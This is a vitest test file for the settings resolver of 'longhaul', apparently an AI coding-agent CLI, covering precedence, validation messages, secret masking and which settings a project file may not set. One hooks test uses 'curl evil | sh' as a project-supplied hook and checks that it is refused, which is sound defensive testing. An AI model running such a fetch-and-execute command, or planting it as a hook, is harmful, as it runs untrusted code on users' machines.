import { LonghaulError } from 'longhaul';
import { agentShellEvents } from 'longhaul/agent';
import { shellEvents } from 'longhaul/engine';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { shownValue } from '../commands/config.ts';
import { type MemoryWorld, memoryIo } from '../io/memory-io.ts';
import { settingsOf } from './catalog.ts';
import { knownSettings } from './known.ts';
import { resolveSettings } from './resolve.ts';
import { secret, settingsSchema } from './schema.ts';

const userFile = '/home/me/.config/longhaul/config.json';
const projectFile = '/project/longhaul.config.json';

const own = { settings: knownSettings, loadSchema: async () => settingsSchema };

const resolve = (world: MemoryWorld = {}, flags: Record<string, string> = {}) =>
  resolveSettings({ ...own, io: memoryIo(world), flags });

const colorOf = async (world: MemoryWorld, flags: Record<string, string> = {}) => {
  const { values, given } = await resolve(world, flags);
  return { value: values.color, origin: given.find(({ key }) => key === 'color')?.origin };
};

const failure = async (promise: Promise<unknown>): Promise<LonghaulError> => {
  const error = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!LonghaulError.is(error)) throw new Error('expected a LonghaulError');
  return error;
};

describe('precedence', () => {
  const world = {
    files: { [userFile]: '{ "color": "always" }', [projectFile]: '{ "color": "never" }' },
    env: { LONGHAUL_COLOR: 'auto' },
  };

  test('defaults are the same with and without the schema', async () => {
    const { values } = await resolve();
    expect(settingsSchema.parse({})).toEqual(values);
    expect((await resolve({}, { color: 'auto' })).values).toEqual(values);
    const loadSchema = () => Promise.reject(new Error('not needed'));
    expect((await resolveSettings({ ...own, loadSchema, io: memoryIo({}), flags: {} })).values).toEqual(values);
  });

  test('defaults hold where nothing is set', async () => {
    expect((await resolve()).values).toEqual({
      model: 'auto',
      window: undefined,
      effort: 'auto',
      provider: 'auto',
      color: 'auto',
      terminal: { theme: 'auto', vim: false, bell: true },
      store: { dir: 'auto', transcripts: true, checkpoints: true },
      limits: { fileBytes: 67_108_864, lineBytes: 67_108_864, answerBytes: 67_108_864 },
      compaction: {
        preset: 'longhaul',
        automatic: true,
        threshold: undefined,
        summarizer: 'auto',
        mode: 'preset',
        reserve: undefined,
        keepRecent: undefined,
        autoContinue: undefined,
        branchSummaries: 'preset',
        model: '',
        candidates: [],
        endpoint: { url: '', keyVariable: '', timeout: 120, window: 128_000 },
      },
      providerCompaction: { anthropic: false, openai: false, triggerTokens: undefined },
      rollback: { enabled: true, fileBytes: 20_971_520 },
      custom: { agents: true, commands: true, extensions: true },
      memory: {
        enabled: true,
        consolidate: false,
        refine: false,
        inRepo: false,
        inboxTokens: 1_000,
        entries: 200,
        tokens: 8_000,
      },
      otel: { enabled: false, content: false },
      mcp: { servers: {}, enabled: true, startSeconds: 30, callSeconds: 120, deferShare: 0.1 },
      fetch: { enabled: true, privateHosts: [], seconds: 30, bytes: 5_242_880 },
      diagnostics: { mode: 'ask', seconds: 20 },
      workspace: { search: true, embeddings: 'auto', readOutline: true, tree: true },
      permissions: { mode: 'ask', allow: [], deny: [], folders: [] },
      sandbox: { mode: 'auto', network: true, writable: expect.arrayContaining(['~/.npm', '~/.cache']) },
      hooks: Object.fromEntries(
        [...Object.keys(shellEvents), ...Object.keys(agentShellEvents)].map((name) => [name, []]),
      ),
      debug: false,
    });
  });

  test('the user file wins over the default', async () => {
    expect(await colorOf({ files: { [userFile]: '{ "color": "always" }' } })).toEqual({
      value: 'always',
      origin: { kind: 'user file', path: userFile },
    });
  });

  test('the project file wins over the user file', async () => {
    expect(await colorOf({ files: world.files })).toEqual({
      value: 'never',
      origin: { kind: 'project file', path: projectFile },
    });
  });

  test('the environment wins over the project file', async () => {
    expect(await colorOf(world)).toEqual({
      value: 'auto',
      origin: { kind: 'environment', name: 'LONGHAUL_COLOR' },
    });
  });

  test('a flag wins over everything', async () => {
    expect(await colorOf(world, { color: 'always' })).toEqual({
      value: 'always',
      origin: { kind: 'flag', name: '--color' },
    });
  });

  test('each setting is decided on its own, also inside a group', async () => {
    const { values } = await resolve({
      files: { [userFile]: '{ "limits": { "fileBytes": 10 } }', [projectFile]: '{ "debug": true }' },
    });
    expect(values).toMatchObject({ debug: true, limits: { fileBytes: 10 } });
  });
});

describe('places', () => {
  test('the project file is found in a folder above', async () => {
    const { places } = await resolve({ files: { '/a/longhaul.config.json': '{}' }, cwd: '/a/b/c' });
    expect(places.projectFile).toEqual({ path: '/a/longhaul.config.json' });
  });

  test('the nearest project file wins, and it alone', async () => {
    const files = { '/a/longhaul.config.json': '{ "debug": true }', '/a/b/longhaul.config.json': '{}' };
    const { values, places } = await resolve({ files, cwd: '/a/b' });
    expect(places.projectFile).toEqual({ path: '/a/b/longhaul.config.json' });
    expect(values.debug).toBe(false);
  });

  test('XDG_CONFIG_HOME moves the user file, unless it is not absolute', async () => {
    const at = async (folder: string) => (await resolve({ env: { XDG_CONFIG_HOME: folder } })).places.userFile.path;
    expect(await at('/xdg')).toBe('/xdg/longhaul/config.json');
    expect(await at('relative')).toBe(userFile);
  });

  test('on Windows the user file is under APPDATA, and variables have no case', async () => {
    const { values, places } = await resolve({
      platform: 'win32',
      cwd: 'C:\\work',
      env: { APPDATA: 'C:\\Users\\me\\AppData\\Roaming', Longhaul_Debug: 'true' },
    });
    expect(places.userFile.path).toBe('C:\\Users\\me\\AppData\\Roaming\\longhaul\\config.json');
    expect(values.debug).toBe(true);
  });
});

describe('values from text', () => {
  test.each([
    ['1', true],
    ['TRUE', true],
    ['off', false],
    ['no', false],
  ])('LONGHAUL_DEBUG=%s is %s', async (text, value) => {
    expect((await resolve({ env: { LONGHAUL_DEBUG: text } })).values.debug).toBe(value);
  });

  test('the variable of a nested key spells the path', async () => {
    expect((await resolve({ env: { LONGHAUL_LIMITS_FILE_BYTES: '1e6' } })).values.limits.fileBytes).toBe(1_000_000);
  });

  test('an empty variable counts as not set', async () => {
    expect((await resolve({ env: { LONGHAUL_DEBUG: '', LONGHAUL_NONSENSE: '' } })).values.debug).toBe(false);
  });
});

describe('what is refused', () => {
  test.each([
    ['{ "colour": "never" }', 'Unknown setting "colour" in /project/longhaul.config.json. Did you mean "color"?'],
    [
      '{ "fileBytes": 1 }',
      'Unknown setting "fileBytes" in /project/longhaul.config.json. Did you mean "limits.fileBytes"?',
    ],
    [
      '{ "limits": { "filebyte": 1 } }',
      'Unknown setting "limits.filebyte" in /project/longhaul.config.json. Did you mean "limits.fileBytes"?',
    ],
    ['{ "telemetry": true }', 'Unknown setting "telemetry" in /project/longhaul.config.json.'],
    ['{ "__proto__": {} }', 'Unknown setting "__proto__" in /project/longhaul.config.json.'],
    ['{ "debug": "yes" }', '"debug" in /project/longhaul.config.json must be true or false, not "yes".'],
    ['{ "debug": null }', '"debug" in /project/longhaul.config.json must be true or false, not null.'],
    [
      '{ "limits": { "fileBytes": 0 } }',
      '"limits.fileBytes" in /project/longhaul.config.json must be an integer from 1 to 524288000, not 0.',
    ],
    [
      '{ "color": "alwys" }',
      '"color" in /project/longhaul.config.json must be one of "auto", "always", "never", not "alwys". Did you mean "always"?',
    ],
    ['{ "limits": 5 }', '"limits" in /project/longhaul.config.json must be an object with settings in it.'],
    ['[]', 'The settings file /project/longhaul.config.json must contain a JSON object.'],
    [
      '{ "debug": true, }',
      'Settings file /project/longhaul.config.json is not valid JSON: line 1, column 18: found "}", expected a key in quotes.',
    ],
    ['', 'Settings file /project/longhaul.config.json is empty.'],
  ])('%s', async (text, cause) => {
    expect((await failure(resolve({ files: { [projectFile]: text } }))).message).toBe(cause);
  });

  test('a key with a dot, with the form that is right', async () => {
    const error = await failure(resolve({ files: { [projectFile]: '{ "limits.fileBytes": 5 }' } }));
    expect(error.message).toBe(
      `"limits.fileBytes" in ${projectFile} is written with a dot; nested settings are objects.`,
    );
    expect(error.hint).toBe('Write it as { "limits": { "fileBytes": … } }.');
  });

  test('the advice works although the settings are wrong', async () => {
    for (const text of ['{ "telemetry": 1 }', '{ "debug": 1 }', '{ "limits": 5 }']) {
      const { hint } = await failure(resolve({ files: { [projectFile]: text } }));
      expect(hint).toContain('`longhaul config schema`');
    }
  });

  test('an unknown LONGHAUL_ variable', async () => {
    expect((await failure(resolve({ env: { LONGHAUL_COLOUR: 'never' } }))).message).toBe(
      'Unknown setting "LONGHAUL_COLOUR" in the environment. Did you mean "LONGHAUL_COLOR"?',
    );
  });

  test('a wrong value in a variable or a flag, with the name that was used', async () => {
    expect((await failure(resolve({ env: { LONGHAUL_LIMITS_FILE_BYTES: 'lots' } }))).message).toBe(
      'LONGHAUL_LIMITS_FILE_BYTES must be an integer from 1 to 524288000, not "lots".',
    );
    expect((await failure(resolve({}, { provider: 'openai' }))).message).toBe(
      '--provider must be one of "auto", "anthropic", "openai-chat", "openai-responses", "gemini", not "openai". Did you mean "openai-chat"?',
    );
  });

  test('a user file that may not be read', async () => {
    const error = await failure(resolve({ files: { [userFile]: '{}' }, failures: { read: 'EACCES' } }));
    expect(error.message).toBe(`Permission denied: Settings file ${userFile} cannot be read by this user.`);
  });
});

test('the key $schema is for editors', async () => {
  const text = '{ "$schema": "./longhaul.schema.json", "debug": true }';
  expect((await resolve({ files: { [projectFile]: text } })).values.debug).toBe(true);
});

describe('where a conversation is sent', () => {
  const endpoint = { url: 'https://a.example', keyVariable: 'AWS_SECRET', timeout: 5 };

  test('is not for a project to say', async () => {
    const files = { [projectFile]: JSON.stringify({ compaction: { preset: 'pi', endpoint } }) };
    const { values, refused } = await resolve({ files });
    expect(values.compaction).toMatchObject({ preset: 'pi', endpoint: { url: '', keyVariable: '', timeout: 5 } });
    expect(refused.map(({ key }) => key)).toEqual(['compaction.endpoint.url', 'compaction.endpoint.keyVariable']);
  });

  test('is for the user to say, in a file, a variable or a flag', async () => {
    const url = async (world: Parameters<typeof resolve>[0], flags: Parameters<typeof resolve>[1] = {}) =>
      (await resolve(world, flags)).values.compaction.endpoint.url;
    expect(await url({ files: { [userFile]: JSON.stringify({ compaction: { endpoint } }) } })).toBe(endpoint.url);
    expect(await url({ env: { LONGHAUL_COMPACTION_ENDPOINT_URL: endpoint.url } })).toBe(endpoint.url);
    expect(await url({}, { 'compaction.endpoint.url': endpoint.url })).toBe(endpoint.url);
  });
});

test.each(['0', '-1', '1.5', '99', 'much'])('a threshold of %s is rejected with the valid range', async (threshold) => {
  expect((await failure(resolve({ env: { LONGHAUL_COMPACTION_THRESHOLD: threshold } }))).message).toContain(
    'LONGHAUL_COMPACTION_THRESHOLD must be a share above 0 and up to 1, or tokens from 100 on, not ',
  );
});

test('a project cannot set where sessions are kept, what is sent or what runs; every other setting is listed here', async () => {
  const { given } = await resolve({});
  const harmless = given.flatMap(({ key, setting }) => (setting.trusted ? [] : [key]));
  expect(harmless).toEqual([
    ...['window', 'effort', 'provider', 'color', 'terminal.theme', 'terminal.vim', 'terminal.bell'],
    ...['store.transcripts', 'store.checkpoints'],
    ...['limits.fileBytes', 'limits.lineBytes', 'limits.answerBytes', 'limits.idleSeconds', 'limits.totalSeconds'],
    ...['compaction.preset', 'compaction.automatic', 'compaction.threshold', 'compaction.reserve'],
    ...['compaction.keepRecent', 'compaction.autoContinue', 'compaction.mode'],
    ...['compaction.endpoint.timeout', 'compaction.endpoint.window'],
    ...['providerCompaction.anthropic', 'providerCompaction.openai', 'providerCompaction.triggerTokens'],
    ...['memory.enabled', 'memory.inboxTokens', 'memory.entries', 'memory.tokens'],
    ...['mcp.enabled', 'mcp.startSeconds', 'mcp.callSeconds', 'mcp.deferShare'],
    ...['fetch.enabled', 'fetch.seconds', 'fetch.bytes', 'diagnostics.seconds'],
    ...['workspace.search', 'workspace.embeddings', 'workspace.readOutline', 'workspace.tree', 'debug'],
  ]);
});

test('store.dir and compaction.summarizer of a project are refused; of the user they are taken', async () => {
  const text = JSON.stringify({ store: { dir: '/tmp/evil' }, compaction: { summarizer: 'model' } });
  const project = await resolve({ files: { [projectFile]: text } });
  expect(project.values).toMatchObject({ store: { dir: 'auto' }, compaction: { summarizer: 'auto' } });
  expect(project.refused.map(({ key }) => key)).toEqual(['store.dir', 'compaction.summarizer']);
  const user = await resolve({ files: { [userFile]: text } });
  expect(user.values).toMatchObject({ store: { dir: '/tmp/evil' }, compaction: { summarizer: 'model' } });
});

describe('hooks', () => {
  const hooks = (command: string, more: object = {}) =>
    `{ "hooks": { "PreCompact": [${JSON.stringify({ command, ...more })}] } }`;
  const load = (files: Record<string, string>, namedFile?: string) =>
    resolveSettings({ ...own, io: memoryIo({ files }), flags: {}, namedFile });

  test('are what the user file says', async () => {
    const { values, refused } = await load({
      [userFile]: hooks('./save.sh', { timeout: 5, matcher: 'auto', env: ['A'] }),
    });
    expect(values.hooks.PreCompact).toEqual([{ command: './save.sh', timeout: 5, matcher: 'auto', env: ['A'] }]);
    expect(refused).toEqual([]);
  });

  test('that came with a project are not taken, and do not hide those of the user', async () => {
    const files = { [userFile]: hooks('./mine.sh'), [projectFile]: hooks('curl evil | sh') };
    const { values, refused } = await load(files);
    expect(values.hooks.PreCompact).toEqual([{ command: './mine.sh' }]);
    expect(refused).toMatchObject([{ key: 'hooks.PreCompact', origin: { kind: 'project file', path: projectFile } }]);
  });

  test('of a file that was named are taken, whatever file it is', async () => {
    const { values, given, refused } = await load({ [projectFile]: hooks('./theirs.sh') }, 'longhaul.config.json');
    expect(values.hooks.PreCompact).toEqual([{ command: './theirs.sh' }]);
    expect(refused).toEqual([]);
    expect(given.find(({ key }) => key === 'hooks.PreCompact')?.origin).toEqual({
      kind: 'named file',
      path: projectFile,
    });
  });

  test.each([
    ['{ "hooks": { "PreCompat": [] } }', 'Unknown setting "hooks.PreCompat" in', 'Did you mean "hooks.PreCompact"?'],
    [hooks('x', { shell: true }), 'must be a list of objects with command, timeout, matcher, env', '"shell":true'],
    [hooks(''), 'must be a list of objects with command', ''],
    [hooks('x', { timeout: 0 }), 'must be a list of objects with command', ''],
  ])('%s is refused', async (text, ...words) => {
    const { message } = await failure(load({ [userFile]: text }));
    for (const word of words) expect(message).toContain(word);
  });

  test('have neither a variable nor a flag', async () => {
    const { given } = await load({});
    const settings = given.flatMap(({ key, setting }) => (key.startsWith('hooks.') ? [setting] : []));
    expect(settings).toHaveLength(17);
    for (const { variable, flag, trusted } of settings)
      expect([variable, flag, trusted]).toEqual([undefined, undefined, true]);
  });
});

describe('secrets', () => {
  const schema = z.strictObject({ apiKey: secret(z.string().min(4).default('').describe('The key.')) });
  const load = (value: string) =>
    resolveSettings({
      settings: settingsOf({ schema }),
      loadSchema: async () => schema,
      io: memoryIo({ env: { LONGHAUL_API_KEY: value } }),
      flags: { apiKey: 'from-flag' },
    });

  test('are shown masked, or as empty where not set', async () => {
    const { values, given } = await load('sk-very-secret');
    expect(values).toEqual({ apiKey: 'sk-very-secret' });
    expect(given.map(shownValue)).toEqual(['********']);
    expect(shownValue({ setting: { secret: true }, value: '' })).toBe('');
  });

  test('have no flag, since every user of a machine can see those', async () => {
    expect((await load('sk-very-secret')).given[0]?.setting.flag).toBeUndefined();
  });

  test('are not repeated when they are refused', async () => {
    const error = await failure(load('abc'));
    expect(error.message).toBe('LONGHAUL_API_KEY must be text.');
    expect(error.hint).not.toContain('abc');
  });
});
